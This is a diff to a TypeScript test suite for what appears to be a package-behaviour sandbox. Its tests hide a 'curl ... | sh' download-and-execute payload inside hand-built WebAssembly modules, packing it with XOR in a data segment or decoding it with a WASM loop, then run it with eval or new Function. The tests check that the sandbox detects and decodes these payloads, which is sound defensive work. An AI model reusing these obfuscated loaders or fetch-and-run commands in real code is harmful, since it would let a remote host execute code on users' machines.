@@ -418,13 +418,13 @@ describe('WebAssembly', () => {
       ...sec(5, [1, 0, 1]),
       ...sec(6, [globals.length, ...globals.flatMap(([, v]) => [0x7f, 0, 0x41, ...leb(v), 0x0b])]),
       ...sec(7, [globals.length + 1 + (withFunction ? 1 : 0), ...exports]),
-      // the function's body would return 7; the sandbox never runs it
+      // the function's body returns 7
       ...(withFunction ? sec(10, [1, 4, 0, 0x41, 7, 0x0b]) : []),
       ...sec(11, [segments.length, ...segments.flatMap(([off, data]) => [0, 0x41, ...leb(off), 0x0b, ...leb(data.length), ...data])]),
     ]);
   }
 
-  it('parses a module for its data, never runs its code: a payload packed into a data segment is decoded and run', () => {
+  it('a payload packed into a data segment is decoded and run; the module\'s function runs too', () => {
     const payload = "require('child_process').execSync('curl -s https://192.0.2.60/p | sh')";
     const packed = Buffer.from(payload).map((c, i) => c ^ (0x5a + (i % 3)));
     const len = Buffer.alloc(4);
@@ -438,10 +438,87 @@ describe('WebAssembly', () => {
       const p = inst.exports.blob_ptr.value;
       const n = new DataView(inst.exports.memory.buffer).getUint32(p, true);
       const code = Buffer.from(mem.subarray(p + 4, p + 4 + n).map((c, i) => c ^ (0x5a + (i % 3)))).toString();
-      if (ran === 0) eval(code);`;
+      if (ran === 7) eval(code);`;
     const r = run({ 'index.js': src, 'core.wasm': BYTES_MARK + mod.toString('base64') }, [{ file: 'index.js', reach: 'load' }]);
     const linux = r.effects.filter((e) => e.persona === 'linux');
     expect(of(linux, 'exec').find((e) => e.command === 'curl -s https://192.0.2.60/p | sh')?.decoded).toBe(true);
+  });
+
+  /** A module of one function (params, results, locals: value types; code: its instructions before the final end) and one page of memory. */
+  function wasmFunction(params: number[], results: number[], locals: number[], code: number[], extra: { exportMemory?: boolean; imports?: Array<[string, string, number[], number[]]> } = {}): Buffer {
+    const vec = (items: number[][]) => [items.length, ...items.flat()];
+    const name = (s: string) => [s.length, ...Buffer.from(s)];
+    const sec = (id: number, body: number[]) => {
+      const len: number[] = [];
+      let n = body.length;
+      do {
+        const b = n & 0x7f;
+        n >>>= 7;
+        len.push(n ? b | 0x80 : b);
+      } while (n);
+      return [id, ...len, ...body];
+    };
+    const imports = extra.imports ?? [];
+    const types = [[0x60, ...vec(params.map((t) => [t])), ...vec(results.map((t) => [t]))], ...imports.map(([, , p, r]) => [0x60, ...vec(p.map((t) => [t])), ...vec(r.map((t) => [t]))])];
+    const body = [...vec(locals.map((t) => [1, t])), ...code, 0x0b];
+    return Buffer.from([
+      0, 0x61, 0x73, 0x6d, 1, 0, 0, 0,
+      ...sec(1, vec(types)),
+      ...(imports.length ? sec(2, vec(imports.map(([m, n], i) => [...name(m), ...name(n), 0, i + 1]))) : []),
+      ...sec(3, [1, 0]),
+      ...sec(5, [1, 0, 1]),
+      ...sec(7, vec([[...name('run'), 0, imports.length], [...name('memory'), 2, 0]])),
+      ...sec(10, [1, ...(body.length < 128 ? [body.length] : [(body.length & 0x7f) | 0x80, body.length >> 7]), ...body]),
+    ]);
+  }
+
+  it('interprets a decoder kept in WebAssembly: a loop that XORs memory in place hands the JavaScript the payload', () => {
+    const payload = "require('child_process').execSync('curl -s https://192.0.2.61/q | sh')";
+    const key = 0x2b;
+    // run(ptr, len, key): for (i = 0; i < len; i++) mem[ptr + i] ^= key
+    const code = [
+      0x02, 0x40, 0x03, 0x40,
+      0x20, 3, 0x20, 1, 0x4f, 0x0d, 1,
+      0x20, 0, 0x20, 3, 0x6a,
+      0x20, 0, 0x20, 3, 0x6a, 0x2d, 0, 0,
+      0x20, 2, 0x73, 0x3a, 0, 0,
+      0x20, 3, 0x41, 1, 0x6a, 0x21, 3,
+      0x0c, 0, 0x0b, 0x0b,
+    ];
+    const mod = wasmFunction([0x7f, 0x7f, 0x7f], [], [0x7f], code);
+    const packed = Buffer.from(payload).map((c) => c ^ key);
+    const src = `
+      const inst = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('${mod.toString('base64')}', 'base64')), {});
+      const mem = new Uint8Array(inst.exports.memory.buffer);
+      const packed = Buffer.from('${packed.toString('base64')}', 'base64');
+      mem.set(packed, 64);
+      inst.exports.run(64, packed.length, ${key});
+      new Function(Buffer.from(mem.subarray(64, 64 + packed.length)).toString())();`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    const linux = r.effects.filter((e) => e.persona === 'linux');
+    expect(of(linux, 'exec').find((e) => e.command === 'curl -s https://192.0.2.61/q | sh')?.decoded).toBe(true);
+  });
+
+  it('a WebAssembly function calls the JavaScript it imports, with the values it computed', () => {
+    // run(x): report(x * 3 + 1)
+    const code = [0x20, 0, 0x41, 3, 0x6c, 0x41, 1, 0x6a, 0x10, 0];
+    const mod = wasmFunction([0x7f], [], [], code, { imports: [['env', 'report', [0x7f], []]] });
+    const src = `
+      const { instance } = { instance: new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('${mod.toString('base64')}', 'base64')), { env: { report: (n) => require('https').get('https://wasm.invalid/' + n) } }) };
+      instance.exports.run(14);`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    expect(r.effects.filter((e) => e.persona === 'linux' && e.url).map((e) => e.url)).toContain('https://wasm.invalid/43');
+  });
+
+  it('a WebAssembly loop that never ends traps as a RuntimeError instead of hanging the run', () => {
+    // run(): loop br 0 end
+    const mod = wasmFunction([], [], [], [0x03, 0x40, 0x0c, 0, 0x0b]);
+    const src = `
+      try { new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('${mod.toString('base64')}', 'base64')), {}).exports.run(); }
+      catch (e) { require('https').get('https://trap.invalid/' + e.name); }`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    expect(r.effects.filter((e) => e.persona === 'linux' && e.url).map((e) => e.url)).toContain('https://trap.invalid/RuntimeError');
+    expect(r.runs.find((x) => x.persona === 'linux')?.status).toBe('done');
   });
 
   it('a module that is not WebAssembly fails to compile as it would in Node', () => {
